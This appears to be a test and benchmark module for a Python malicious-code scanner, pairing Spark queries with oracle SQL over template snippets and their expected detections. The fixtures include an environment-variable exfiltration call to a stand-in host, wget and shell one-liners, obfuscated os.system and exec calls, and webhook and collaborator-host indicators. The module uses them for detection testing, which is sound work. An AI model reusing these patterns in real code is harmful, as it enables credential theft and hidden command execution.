"""Queries over source code made from the tables by templates, and over their text columns, with the SQL that gives the same."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from larkspur.functions import text as T
from larkspur.operators import features, model
from larkspur.operators import rules as R
from larkspur.plans import extended
from larkspur.sinks import report
from larkspur.sources import datasets

_INTS = ", ".join(str(i) for i in range(21))
_HEX = ", ".join(hex(i) for i in range(11))
#: A source text and what the audit has to find in it: rule, confidence, label.
TEMPLATES: list[tuple[str, list[tuple[str, int, str | None]]]] = [
    ("x = 1\n", []),
    ("import os\nos.getenv('API_KEY')\n", [("EnvAccess", 3, "API_KEY")]),
    ("import socket\n", [("SocketImport", 2, "socket")]),
    ("import pickle as p\n", [("PickleImport", 2, "pickle")]),
    ("import os as o\no.system('ls')\n", [("ShellExec", 3, "os.system")]),
    ("import os, base64\nos.system(base64.b64decode('bHMgLWxh').decode())\n", [("ObfuscatedShellExec", 5, "os.system"), ("Base64String", 3, r"\x6c\x73...\x6c\x61")]),
    ("getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n", [("DunderImport", 3, '__import__("os")'), ("ObfuscatedShellExec", 5, "os.system")]),
    ("# Obfuscated by me\n", [("SuspiciousComment", 5, "obfuscated by")]),
    ("def reverse_shell(payload):\n    pass\n", [("SuspiciousFunctionName", 4, "reverse_shell"), ("SuspiciousParameterName", 2, "payload")]),
    ("open('a.exe', 'w')\n", [("SuspiciousWrite", 4, "a.exe")]),
    ("import requests\nrequests.get('https://e.com/a.exe')\n", [("BinaryDownload", 3, "https://e.com/a.exe")]),
    ("import os, requests\nrequests.post('http://e.com', data=os.environ)\n", [("DataExfiltration", 3, "requests.post")]),
    (f"x = [{_INTS}]\n", [("IntLiterals", 3, "[0, 1, 2, 3, 4, ... ]")]),
    (f"x = [{_HEX}]\n", [("HexedLiterals", 3, "[0x0, 0x1, 0x2, 0x3, 0x4, ... ]")]),
    ("p = '/etc/passwd'\n", [("PathEnumeration", 3, "/etc/passwd")]),
    ("import os\nos.dup2(1, 2)\nos.popen('x')\n", [("SuspiciousCall", 4, "os.dup2"), ("ShellExec", 3, "os.popen")]),
    ("eval('1 + 1')\n", [("CodeExec", 3, "eval")]),
    ("import platform\nplatform.node()\n", [("OSFingerprint", 3, "platform.node")]),
    ("import os\nos.system('curl x')\n", [("DangerousExec", 4, "os.system")]),
    ("globals()['__builtins__']('x')\n", [("BuiltinsVariable", 4, "__builtins__")]),
    ("import pyperclip\npyperclip.paste()\n", [("SuspiciousImport", 3, "pyperclip"), ("ClipboardRead", 2, "pyperclip.paste")]),
    ("import pyautogui as p\np.screenshot()\n", [("ScreenshotCapture", 3, "pyautogui.screenshot")]),
    ("import ctypes\nctypes.CDLL('x')\n", [("CtypesImport", 2, "ctypes"), ("DLLInjection", 4, "ctypes.CDLL")]),
    ("import struct, marshal\n", [("StructImport", 2, "struct"), ("MarshalImport", 2, "marshal")]),
    ("x = 'see CVE-2024-1234'\n", [("CVEInLiteral", 3, "CVE-")]),
    ("x = '../../../secret'\n", [("PathTraversal", 2, "../../..")]),
    (f"x = '1234567890:{'a' * 35}'\n", [("TelegramToken", 3, "12345678...aaaaaaaa")]),
    ("payload = 1\n", [("SuspiciousVariable", 2, "payload")]),
    ("x = 'https://discord.com/api/webhooks/1/2'\n", [("WebHook", 4, "discord.com/api/webhooks/")]),
    ("x = 'C:/1Password/x'\n", [("AppEnumeration", 3, "1Password")]),
    ("x = r'a\\Google\\Chrome'\n", [("BrowserEnumeration", 4, "Google/Chrome")]),
    ("x = 'run uname -a now'\n", [("SuspiciousLiteral", 3, "uname -a")]),
    ("x = 'bhghoamapcdpbohphigoooaddinpkbai'\n", [("BrowserExtension", 4, "bhghoamapcdpbohphigoooaddinpkbai")]),
    ("x = 'a.oastify.com'\n", [("DataExfiltration", 4, "oastify.com")]),
    ("x = '" + r"\x41" * 25 + "'\n", [("HexedString", 3, r"\x41\x41...\x41\x41")]),
    (f"x = '{'QUJD' * 25}'\n", [("Base64String", 3, "QUJDQUJD...QUJDQUJD")]),
    ("import os\nos.system('echo curl')\n", [("ShellExec", 3, "os.system")]),
    ("import os\nos.system('ls; wget http://x')\n", [("DangerousExec", 4, "os.system")]),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", [("ObfuscatedCodeExec", 5, "exec"), ("Base64String", 3, r"\x70\x72...\x31\x29")]),
    ("x = 'os' + '.x'\nx = ''.join(['l', 's'])\nimport os\nos.system(x)\n", [("ShellExec", 3, "os.system")]),
    ("import importlib\nimportlib.import_module('subprocess').call('id')\n", [("DunderImport", 3, '__import__("subprocess")'), ("ObfuscatedShellExec", 5, "subprocess.call")]),
    ("open('b.bat', 'x')\nopen('c.txt', 'w')\nopen('d.py')\n", [("SuspiciousWrite", 4, "b.bat")]),
    ("x = eval\nx('1')\n", [("CodeExec", 4, "eval")]),
]
#: Sources of setup files: install hooks, and an execution whose level is one higher there.
SETUPS: list[tuple[str, list[tuple[str, int, str | None]]]] = [
    ("import os\nos.system('ls')\n", [("ShellExec", 4, "os.system")]),
    ("from setuptools import setup\nsetup(cmdclass={'install': Run})\n", [("InstallHook", 4, "cmdclass:Run")]),
]
_SETUP = len(TEMPLATES)  # the sources of setup files follow
_KINDS = _SETUP + len(SETUPS)


def sources(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One source file per customer, by its key."""
    k = F.col("c_custkey") % _KINDS
    texts = F.array(*[F.lit(t) for t, _ in [*TEMPLATES, *SETUPS]])
    return spark.read.parquet(f"{sf_dir}/customer.parquet").select(
        F.col("c_custkey").cast("string").alias("file_id"),
        F.concat(F.lit("pkg"), F.col("c_nationkey").cast("string"), F.when(k >= _SETUP, "/setup.py").otherwise("/a.py")).alias("file_path"),
        F.get(texts, k.cast("int")).alias("content"),
    )


def _sql_text(x: str | None) -> str:
    return "NULL" if x is None else "'" + x.replace("'", "''") + "'"


_ROWS = [(i, R.CODE[rule], c, label) for i, (_, found) in enumerate([*TEMPLATES, *SETUPS]) for rule, c, label in found]
_WANTED = "SELECT CAST(c_custkey AS VARCHAR) AS file_id, 'pkg' || c_nationkey AS archive, w.rule, w.confidence, w.label FROM customer JOIN (VALUES " + ", ".join(
    f"({i}, '{code}', {c}, {_sql_text(label)})" for i, code, c, label in _ROWS
) + f") AS w(k, rule, confidence, label) ON c_custkey % {_KINDS} = w.k"


def found(spark: SparkSession, sf_dir: str) -> DataFrame:
    return R.audit(sources(spark, sf_dir)).select("file_id", F.regexp_extract("file_path", "^[^/]*", 0).alias("archive"), "rule", "confidence", "label")


def _documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text")


def line_stats(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = T.lines(F.col("text"))
    return _documents(spark, sf_dir).where("text IS NOT NULL").select(
        "doc_id",
        F.size(lines).cast("long").alias("num_lines"),
        F.size(F.filter(lines, lambda x: F.trim(x) != "")).cast("long").alias("num_nonempty_lines"),
        F.size(F.filter(lines, lambda x: F.ltrim(x).startswith("#"))).cast("long").alias("num_comment_lines"),
        F.octet_length("text").cast("long").alias("num_bytes"),
    )


_LINES = "SELECT doc_id, CASE WHEN right(text, 1) = chr(10) THEN string_split_regex(text, '\\r?\\n')[:-2] WHEN text = '' THEN [] ELSE string_split_regex(text, '\\r?\\n') END AS l, text FROM documents WHERE text IS NOT NULL"

#: A token and what the survey's definitions say of it: base64 shape, candidate, long, hex-escaped, long hex, Telegram token,
#: url, IPv4, suspicious extension, doc-like, extension of a url, python command, dotted name, dangerous command (as program, as argument).
TOKENS: list[tuple[str, str]] = [
    ("QUJDREVGR0g=", "base64 candidate"),
    ("QUI=", "base64"),
    ("====", ""),
    ("QUJD-_8=", ""),
    ("A" * 96 + "QUI=", "base64 candidate long dotted_no"),
    ("abcdefgh", "base64 candidate dotted"),
    ("c_custkey", "dotted"),
    ("os.path.join", "extension dotted"),
    ("https://e.com/x.exe?y=1#z", "url extension"),
    ("https://host.tld", "url extension"),
    ("C:/temp/x.DLL", "suspicious extension"),
    ("1234567890:" + "a" * 35, "token"),
    (r"\x41", "hexed"),
    (r"\x4", ""),
    (r"\x41" * 25, "hexed long_hex"),
    ("ab" * 60, "base64 candidate long dotted"),
    ("192.168.001.255", "ipv4 extension"),
    ("1.2.3.256", "extension"),
    ("For Example, see the docs", "doc"),
    ("/usr/bin/Python3.11", "python extension"),
    ("curl", "base64 dotted dangerous"),
    ("echo curl", ""),
    ("curly brackets", ""),
    ("ls | wget x", "dangerous argument"),
    ("base64", "dotted"),
    ("echo x|base64 -d", "dangerous argument"),
    ("  powershell -c x", "dangerous argument"),
    ("", ""),
]
_TESTS = ["base64", "candidate", "long", "hexed", "long_hex", "token", "url", "ipv4", "suspicious", "doc", "extension", "python", "dotted", "dangerous", "argument"]


def token_tests(spark: SparkSession, sf_dir: str) -> DataFrame:
    t = F.col("t")
    rows = spark.read.parquet(f"{sf_dir}/orders.parquet").select("o_orderkey", F.get(F.array(*[F.lit(x) for x, _ in TOKENS]), (F.col("o_orderkey") % len(TOKENS)).cast("int")).alias("t"))
    found = [T.is_base64(t), T.base64_candidate(t), T.long_base64(t), T.hex_escapes(t), T.long_hex(t), T.telegram_token(t), T.contains_url(t), T.is_ipv4(t), T.suspicious_extension(t), T.doc_like(t), T.has_extension(t), T.python_command(t), T.dotted_name(t), T.dangerous_command(t), T.dangerous_command(t, program=False)]
    return rows.select("o_orderkey", *[x.alias(name) for x, name in zip(found, _TESTS)], T.bare_url(t).alias("bare"), T.preview(t).alias("preview"), T.normal_slashes(t).alias("slashes"), F.sha2(t, 256).alias("digest"))


_TOKEN_SQL = (
    "SELECT o_orderkey, "
    + ", ".join(f'list_contains(string_split(k, \' \'), \'{name}\') AS "{name}"' for name in _TESTS)
    + ", regexp_extract(t, '^[^?#]*') AS bare, CASE WHEN length(t) > 16 THEN left(t, 8) || '...' || right(t, 8) ELSE t END AS preview, replace(replace(t, '\\\\', '/'), '\\', '/') AS slashes, sha256(t) AS digest"
    + " FROM (SELECT o_orderkey, (["
    + ", ".join(_sql_text(x) for x, _ in TOKENS)
    + f"])[1 + o_orderkey % {len(TOKENS)}] AS t, (["
    + ", ".join(_sql_text(k) for _, k in TOKENS)
    + f"])[1 + o_orderkey % {len(TOKENS)}] AS k FROM orders)"
)


def codec_tests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Round trips of names through hexadecimal, escapes and base64."""
    name = F.col("c_name")
    rows = spark.read.parquet(f"{sf_dir}/customer.parquet")
    coded, safe = F.base64(F.encode(name, "UTF-8")), F.translate(F.base64(F.encode(name, "UTF-8")), "+/", "-_")
    escaped = T.hex_to_escaped(F.hex(F.encode(name, "UTF-8")))
    return rows.select(
        "c_custkey", escaped.alias("escaped"), T.bytes_to_escaped(F.encode(name, "UTF-8")).alias("of_bytes"), T.unescaped(escaped).cast("string").alias("back"),
        T.base64_decoded(coded).cast("string").alias("decoded"), T.base64_decoded(safe, url_safe=True).cast("string").alias("safe"), T.base64_decoded(F.concat(coded, F.lit("="))).cast("string").alias("bad"), T.hex_to_escaped(name).alias("not_hex"),
    )


_CODEC_SQL = r"SELECT c_custkey, e AS escaped, e AS of_bytes, c_name AS back, c_name AS decoded, c_name AS safe, CAST(NULL AS VARCHAR) AS bad, CAST(NULL AS VARCHAR) AS not_hex FROM (SELECT *, regexp_replace(lower(hex(encode(c_name))), '(..)', '\\x\1', 'g') AS e FROM customer)"

#: Files and what is counted in them, by the survey's definitions.
COUNTED: list[tuple[str, dict[str, float]]] = [
    ("import os, base64\nfrom socket import socket as s\nx = 'abc' + f'{os}'\n", {"ast.num_imports": 1, "ast.num_import_froms": 1, "ast.cyclomatic_complexity": 1, "stmt.Import": 1, "stmt.ImportFrom": 1, "stmt.Assign": 1, "expr.BinOp": 1, "expr.op.Add": 1, "expr.FString": 1, "expr.StringLiteral": 1, "import.unique_roots": 3, "import.suspicious_pair_count": 3, "import.suspicious_triple_count": 1, "import.module.socket": 1, "literal.num_strings": 1}),
    ("def f(a):\n    if a and a > 1:\n        return 1\n    elif a:\n        return 2 if a else 3\n    for i in a:\n        pass\nf(1)\n", {"ast.num_functions": 1, "ast.num_calls": 1, "ast.cyclomatic_complexity": 6, "ast.cyclomatic_complexity_per_fn": 6, "stmt.If": 1, "stmt.Return": 2, "stmt.For": 1, "expr.BoolOp": 1, "expr.If": 1, "expr.Compare": 1, "expr.Call": 1, "ident.name_count": 3, "ident.short_name_ratio": 1}),
    ("import os\nos.system(os.getenv('API_KEY'))\n", {"ast.num_calls": 2, "call.shell_exec": 1, "call.env_access": 1, "semantic.qualified_calls": 2, "call.os.system": 1, "call.os.getenv": 1, "rule.total_hits": 2, "rule.count.HX2010": 1, "rule.conf_max.HX2010": 3, "confidence.medium": 2, "rule.score_min": 3, "import.unique_roots": 1}),
    ("# c\n\nx = getattr(__import__('o' + 's'), 'x')\n", {"source.num_lines": 3, "source.num_nonempty_lines": 2, "source.num_comment_lines": 1, "transform.concat": 1, "semantic.decoded_nodes": 1, "semantic.encoding_diversity": 1, "call.dynamic_count": 2, "call.dynamic_ratio": 1, "call.import_call": 1, "literal.num_strings": 3, "literal.max_string_length": 1}),
    ("class A:\n    async def g(self):\n        try:\n            pass\n        except E:\n            pass\nu = 'http://1.2.3.4'\nv = '10.0.0.1'\n", {"ast.num_classes": 1, "ast.num_async_functions": 1, "ast.num_functions": 1, "stmt.Try": 1, "stmt.ClassDef": 1, "stmt.FunctionDef": 1, "literal.url_count": 1, "literal.ip_address_count": 1, "ast.cyclomatic_complexity": 2, "rule.total_hits": 0, "rule.score_sum": 0}),
]


def counted_sources(spark: SparkSession, sf_dir: str) -> DataFrame:
    texts = F.array(*[F.lit(t) for t, _ in COUNTED])
    return spark.read.parquet(f"{sf_dir}/supplier.parquet").select(F.col("s_suppkey").cast("string").alias("file_id"), F.lit("a.py").alias("file_path"), F.lit(None).cast("string").alias("archive_path"), F.get(texts, (F.col("s_suppkey") % len(COUNTED)).cast("int")).alias("content"), "s_suppkey")


_NAMES = sorted({name for _, wanted in COUNTED for name in wanted})


def file_features(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The features that ``COUNTED`` names, of the files where it names them."""
    asked = F.array(*[F.array(*map(F.lit, sorted(wanted))) for _, wanted in COUNTED])
    rows = features.features(counted_sources(spark, sf_dir)).select("s_suppkey", "features", F.explode(F.get(asked, (F.col("s_suppkey") % len(COUNTED)).cast("int"))).alias("name"))
    return rows.select("s_suppkey", "name", F.coalesce(F.element_at("features", F.col("name")), F.lit(0.0)).alias("value"))


_FEATURE_SQL = "SELECT s_suppkey, w.name, w.value FROM supplier JOIN (VALUES " + ", ".join(f"({i}, '{n}', CAST({v} AS DOUBLE))" for i, (_, wanted) in enumerate(COUNTED) for n, v in wanted.items()) + f") AS w(k, name, value) ON s_suppkey % {len(COUNTED)} = w.k"

#: A small model: two trees over two features.
MODEL = {
    "features_info": {
        "float_features": [
            {"feature_id": "rule.total_hits", "feature_index": 0, "flat_feature_index": 0, "borders": [0.5, 1.5], "has_nans": False, "nan_value_treatment": "AsIs"},
            {"feature_id": "ast.num_calls", "feature_index": 1, "flat_feature_index": 1, "borders": [0.5], "has_nans": False, "nan_value_treatment": "AsIs"},
        ]
    },
    "oblivious_trees": [{"leaf_values": [-1.0, 0.5, 0.25, 2.0], "splits": [{"split_index": 0}, {"split_index": 2}]}, {"leaf_values": [-0.5, 1.0], "splits": [{"split_index": 1}]}],
    "scale_and_bias": [1.0, [0.125]],
}
_RAW = {0: 0.5 - 0.5 + 0.125, 1: 0.25 - 0.5 + 0.125, 2: 2.0 + 1.0 + 0.125, 3: 2.0 - 0.5 + 0.125, 4: -1.0 - 0.5 + 0.125}


def tree_score(spark: SparkSession, sf_dir: str) -> DataFrame:
    made = model.scored(features.features(counted_sources(spark, sf_dir)), model.TreeModel(MODEL))
    return made.select("s_suppkey", F.round("score", 5).alias("score"))


_SCORE_SQL = f"SELECT s_suppkey, round(1 / (1 + exp(-(CASE s_suppkey % {len(COUNTED)} " + " ".join(f"WHEN {k} THEN {v}" for k, v in _RAW.items()) + " END))), 5) AS score FROM supplier"


def json_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The findings as JSON lines, read again."""
    rows = R.with_findings(R.with_facts(sources(spark, sf_dir))).withColumn("archive_path", F.regexp_extract("file_path", "^[^/]*", 0))
    x = F.from_json("value", "archive_path string, label string, rule string, confidence string")
    return report.json_lines(rows).select(x.alias("x")).select("x.*")


def dataset_validation(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Malicious entries made of the sources (every other one), with the number of their rules."""
    made = sources(spark, sf_dir).select(
        F.lit(None).cast("string").alias("archive"), F.concat_ws("/", "file_id", "file_path").alias("file"), F.lit(None).cast("string").alias("reason"), F.regexp_replace(F.base64(F.encode("content", "UTF-8")), r"\s", "").alias("code"),
        F.when(F.col("file_id").cast("long") % 2 == 0, "malicious").otherwise("benign").alias("verdict"), F.lit(None).cast("string").alias("lines"), F.lit(None).cast("string").alias("_bad"),
    )
    x = F.from_json("value", "file string, rules array<struct<code:string>>")
    return datasets.validation(made).select(x.alias("x")).select(F.col("x.file").alias("file"), F.size("x.rules").cast("long").alias("n"))


_VALID_SQL = f"SELECT c_custkey || '/pkg' || c_nationkey || CASE WHEN c_custkey % {_KINDS} >= {_SETUP} THEN '/setup.py' ELSE '/a.py' END AS file, count(w.rule) AS n FROM customer LEFT JOIN ({_WANTED}) w ON w.file_id = CAST(c_custkey AS VARCHAR) WHERE c_custkey % 2 = 0 GROUP BY 1"


def text_entropy(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _documents(spark, sf_dir).select("doc_id", F.round(T.entropy(F.col("text")), 6).alias("entropy"))


def missing(spark: SparkSession, sf_dir: str) -> DataFrame:
    return sources(spark, sf_dir).select("file_id").join(found(spark, sf_dir).select("file_id"), "file_id", "left_anti")


def archive_counts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings by archive; an archive without any counts 0."""
    every = sources(spark, sf_dir).select(F.regexp_extract("file_path", "^[^/]*", 0).alias("archive")).distinct()
    n = found(spark, sf_dir).groupBy("archive").agg(F.count("*").alias("n"))
    return every.join(n, "archive", "left").select("archive", F.coalesce("n", F.lit(0).cast("long")).alias("n"))


def _counts(by: str) -> Callable[[SparkSession, str], DataFrame]:
    return lambda spark, sf_dir: found(spark, sf_dir).groupBy(by).agg(F.count("*").alias("n"))


_LEAST, _SOME = 4, [R.CODE[x] for x in ("ShellExec", "EnvAccess", "DunderImport")]
_ALL: dict[str, tuple[Callable[[SparkSession, str], DataFrame], str]] = {
    "findings": (found, _WANTED),
    "rule_counts": (_counts("rule"), f"SELECT rule, count(*) AS n FROM ({_WANTED}) GROUP BY rule"),
    "confidence_counts": (_counts("confidence"), f"SELECT confidence, count(*) AS n FROM ({_WANTED}) GROUP BY confidence"),
    "archive_counts": (archive_counts, f"SELECT archive, count(rule) AS n FROM (SELECT DISTINCT 'pkg' || c_nationkey AS archive FROM customer) LEFT JOIN ({_WANTED}) USING (archive) GROUP BY archive"),
    "missing_files": (missing, f"SELECT CAST(c_custkey AS VARCHAR) AS file_id FROM customer WHERE CAST(c_custkey AS VARCHAR) NOT IN (SELECT file_id FROM ({_WANTED}))"),
    "min_confidence": (lambda s, d: R.chosen(found(s, d), _LEAST), f"SELECT * FROM ({_WANTED}) WHERE confidence >= {_LEAST}"),
    "include_codes": (lambda s, d: R.chosen(found(s, d), 1, _SOME), f"SELECT * FROM ({_WANTED}) WHERE rule IN ({', '.join(map(_sql_text, _SOME))})"),
    "exclude_codes": (lambda s, d: R.chosen(found(s, d), 1, exclude=_SOME), f"SELECT * FROM ({_WANTED}) WHERE rule NOT IN ({', '.join(map(_sql_text, _SOME))})"),
    "topk_rules": (lambda s, d: _counts("rule")(s, d).orderBy(F.desc("n"), "rule").limit(5), f"SELECT rule, count(*) AS n FROM ({_WANTED}) GROUP BY rule ORDER BY n DESC, rule LIMIT 5"),
    "line_stats": (line_stats, f"SELECT doc_id, len(l) AS num_lines, len(list_filter(l, lambda x: trim(x) <> '')) AS num_nonempty_lines, len(list_filter(l, lambda x: starts_with(ltrim(x), '#'))) AS num_comment_lines, CAST(strlen(text) AS BIGINT) AS num_bytes FROM ({_LINES})"),
    "text_entropy": (text_entropy, "SELECT doc_id, CASE WHEN text IS NOT NULL THEN round(coalesce(list_entropy(string_split(text, '')), 0), 6) END AS entropy FROM documents"),
    "token_tests": (token_tests, _TOKEN_SQL),
    "codec_tests": (codec_tests, _CODEC_SQL),
    "file_features": (file_features, _FEATURE_SQL),
    "tree_score": (tree_score, _SCORE_SQL),
    "json_findings": (json_findings, f"SELECT archive AS archive_path, label, rule, ['very_low', 'low', 'medium', 'high', 'very_high'][confidence] AS confidence FROM ({_WANTED})"),
    "dataset_validation": (dataset_validation, _VALID_SQL),
    **extended.ALL,
}


def queries() -> dict[str, Callable[[SparkSession, str], DataFrame]]:
    return {name: query for name, (query, _) in _ALL.items()}


def oracle_sql() -> dict[str, str]:
    return {name: sql for name, (_, sql) in _ALL.items()}


def entry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings by rule and confidence."""
    return found(spark, sf_dir).groupBy("rule", "confidence").agg(F.count("*").alias("n")).orderBy("rule", "confidence")
